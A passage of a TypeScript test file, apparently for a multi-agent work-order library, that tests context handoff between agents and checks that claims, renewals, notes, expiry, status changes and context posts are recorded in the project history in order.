        await l.contextPut({ project: P, agent: "obs", id: 1, body: "WO-1: half done" });
        t.advance(1000);
        await l.contextPut({ project: P, agent: "obs", id: 1, body: "WO-1: done, see the branch" });
        const pulled = await l.contextPull({ project: P });
        assert.deepEqual(
          pulled.entries.map((e) => [e.wo, e.body]),
          [
            [1, "WO-1: done, see the branch"],
            [null, "the plan: parser first, then the CLI"],
          ],
        );
        assert.deepEqual(
          (await l.contextPull({ project: P, id: 1 })).entries.map((e) => e.body),
          ["WO-1: done, see the branch"],
        );
      });

      it("says none when nothing was handed over", async () => {
        await make("x");
        assert.equal((await l.contextPull({ project: P })).verdict, "none");
      });
    });

    it("records every kind of state change in the project history", async () => {
      await make("x");
      await l.claim({ project: P, agent: "a", id: 1, ttl: "1m" });
      await l.renew({ project: P, agent: "a", id: 1, ttl: "1m" });
      await l.addNote({ project: P, agent: "a", id: 1, body: "n" });
      t.advance(61_000);
      await l.update({ project: P, agent: "b", role: "admin", id: 1, status: "blocked" });
      await l.contextPut({ project: P, agent: "b", body: "c" });
      const events = await l.history({ project: P });
      assert.deepEqual(
        events.map((e) => e.type),
        ["created", "claimed", "renewed", "note_added", "expired", "status_changed", "context_put"],
      );
      assert.ok(events.every((e, i) => i === 0 || e.seq > events[i - 1]!.seq));
      assert.deepEqual(
        (await l.history({ project: P, after: events[4]!.seq })).map((e) => e.type),
        ["status_changed", "context_put"],
      );
    });
  });
}
